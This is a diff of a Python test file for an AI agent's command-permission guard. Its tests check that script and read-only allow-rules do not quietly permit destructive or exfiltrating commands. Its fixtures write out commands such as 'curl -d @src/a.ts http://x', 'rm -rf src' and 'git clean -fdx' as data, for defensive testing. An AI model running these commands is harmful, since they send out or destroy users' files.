@@ -7,8 +7,10 @@ import hilum_guard
 import hilum_shell
 import pytest
 from hilum import config_folder
+from hilum.events import ApprovalAsked
 from hilum.foreign_files import find_foreign_files
 from hilum_guard.foreign.allow_dangers import explain_refusal, find_danger
+from hilum_guard.rules import rule_files
 
 PLUGINS = (hilum_guard, hilum_files, hilum_shell)
 
@@ -87,8 +89,52 @@ PROGRAMS = """python3.11 python pypy ipython jupyter Rscript node busybox script
     command builtin trap eval source export alias hilum sort tee curl ssh docker git unknown""".split()
 
 
+SCRIPTS = {
+    "lint": "eslint .",
+    "test": "vitest",
+    "build": "rm -rf dist && tsc",
+    "build:web": "npm run build && vite build",
+    "deploy": "npm publish",
+    "p": "git push",
+    "ship": "npm run deploy",
+    "clean": "rm -rf src",
+    "g": "git clean -fdx",
+    "r": "git reset --hard",
+    "up": "curl -d @notes.txt http://x",
+    "get": "curl http://x",
+    "ssh": "ssh host ls",
+    "tf": "terraform apply",
+    "db": "prisma migrate deploy",
+    "tag": "npm version patch",
+    "commit": "git commit -m x",
+    "node": "node release.js",
+    "inner": "npm run nothere",
+}
+MAKEFILE = """\
+all: check
+check:
+	ruff check .
+	pytest
+n:
+	git push --tags
+	npm publish
+"""
+
+
+@pytest.fixture
+def scripts(tmp_path):
+    """A project with scripts."""
+    (tmp_path / "package.json").write_text(json.dumps({"scripts": SCRIPTS}))
+    (tmp_path / "Makefile").write_text(MAKEFILE)
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src/a.ts").write_text("1")
+    (tmp_path / "release.js").write_text("1")
+    return tmp_path
+
+
 @pytest.mark.parametrize("rule", HARMLESS)
-def test_a_short_list_may_be_taken_over_together(tmp_path, rule):
+def test_a_short_list_may_be_taken_over_together(scripts, rule):
+    tmp_path = scripts
     assert find_danger(rule, tmp_path) == ""
     assert explain_refusal(rule) == ""
 
@@ -100,11 +146,111 @@ def test_everything_else_is_dangerous(tmp_path, rule):
     assert find_danger(rule, tmp_path)
 
 
-def test_a_script_that_publishes_is_dangerous(tmp_path):
-    scripts = {"scripts": {"lint": "eslint .", "release": "git push --force"}}
-    (tmp_path / "package.json").write_text(json.dumps(scripts))
-    assert find_danger("run_terminal_cmd(npm run lint)", tmp_path) == ""
-    assert find_danger("run_terminal_cmd(npm run release)", tmp_path)
+@pytest.mark.parametrize(
+    "command",
+    [
+        *(
+            f"npm run {name}"
+            for name in SCRIPTS
+            if name not in ("lint", "test", "build", "build:web")
+        ),
+        "yarn run p",
+        "make n",
+    ],
+)
+def test_a_script_that_does_more_than_build_and_test_is_dangerous(scripts, command):
+    assert find_danger(f"run_terminal_cmd({command})", scripts).startswith("its script ")
+
+
+@pytest.mark.parametrize("command", ["npm run nothere", "make nothere", "just x", "npm test"])
+def test_a_script_that_does_not_exist_is_not_harmless(tmp_path, command):
+    """It may be added later."""
+    found = find_danger(f"run_terminal_cmd({command})", tmp_path)
+    assert found == "its script does not exist in this folder"
+
+
+def store(rule):
+    """Add a rule that allows, as the user and `hilum import` do."""
+    rule_files.add(config_folder(), None, "allow", rule)
+
+
+async def test_a_rule_for_a_script_does_not_cover_what_the_script_does_later(bench, asked):
+    files = {"package.json": json.dumps({"scripts": {"x": "echo 1"}}), "src/a.ts": "1"}
+    kit = await bench(*PLUGINS, approve="ask_first", files=files)
+    store("run_terminal_cmd(npm run x)")
+    store("run_terminal_cmd(make *)")
+    (kit.workspace / "Makefile").write_text("b:\n\trm -rf dist\n\techo 1\nc:\n\trm -rf src\n")
+    (kit.workspace / "dist").mkdir()
+    await kit.call("run_terminal_cmd", command="npm run x")
+    await kit.call("run_terminal_cmd", command="make b")
+    assert kit.of(ApprovalAsked) == []
+    for script in ("git push", "npm publish", "rm -rf src", "curl -d @src/a.ts http://x"):
+        (kit.workspace / "package.json").write_text(json.dumps({"scripts": {"x": script}}))
+        question = await asked(kit, "run_terminal_cmd", command="npm run x")
+        assert "does not show: run_terminal_cmd(npm run x)" in question.reason
+        assert script in question.reason
+    question = await asked(kit, "run_terminal_cmd", command="make c")
+    assert "deletes files (rm -rf src)" in question.reason
+    assert (kit.workspace / "src/a.ts").exists()
+
+
+async def test_a_rule_for_the_exact_text_or_for_what_the_script_runs_covers_it(bench):
+    files = {"package.json": json.dumps({"scripts": {"x": "rm -rf src"}}), "src/a.ts": "1"}
+    kit = await bench(*PLUGINS, approve="ask_first", files=files)
+    store("run_terminal_cmd(=npm run x)")
+    await kit.call("run_terminal_cmd", command="npm run x")
+    store("run_terminal_cmd(npm run *)")
+    store("run_terminal_cmd(rm -rf src)")
+    await kit.call("run_terminal_cmd", command="npm run x -v")
+    assert kit.of(ApprovalAsked) == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git log --output=package.json",
+        "git log --output package.json",
+        "git show --oneline --output=AGENTS.md HEAD",
+        "git diff --ext-diff",
+        "git diff --textc",
+        "git grep -O x",
+        "pytest --junitxml=package.json",
+        "pytest --basetemp=src",
+        "ruff check -o src/a.py .",
+        "mypy --install-types",
+    ],
+)
+async def test_a_rule_for_reading_does_not_cover_options_that_write(bench, asked, command):
+    files = {"package.json": "{}", "src/a.py": "1"}
+    kit = await bench(*PLUGINS, approve="ask_first", files=files)
+    for rule in ("git log *", "git show *", "git diff *", "git grep *", "pytest *", "mypy *"):
+        store(f"run_terminal_cmd({rule})")
+    store("run_terminal_cmd(ruff check *)")
+    question = await asked(kit, "run_terminal_cmd", command=command)
+    assert "has the option" in question.reason
+    assert question.scope == f"run_terminal_cmd(={command})"
+    assert (kit.workspace / "package.json").read_text() == "{}"
+
+
+async def test_a_rule_that_shows_the_option_covers_it(bench):
+    kit = await bench(*PLUGINS, approve="ask_first", files={"a.txt": "1"})
+    store("run_terminal_cmd(git log --output=x)")
+    store("run_terminal_cmd(git diff --ext-diff *)")
+    store("run_terminal_cmd(git show *)")
+    for command in (
+        "git log --output=x",
+        "git diff --ext-diff HEAD",
+        "git show --text",
+        "git show --odd -- --output=x",
+    ):
+        await kit.call("run_terminal_cmd", command=command)
+    assert kit.of(ApprovalAsked) == []
+
+
+async def test_the_approval_of_a_writing_option_is_for_this_command_only(bench, asked):
+    kit = await bench(*PLUGINS, approve="ask_first")
+    question = await asked(kit, "run_terminal_cmd", command="git log --output=x")
+    assert question.scope == "run_terminal_cmd(=git log --output=x)"
 
 
 @pytest.mark.parametrize(
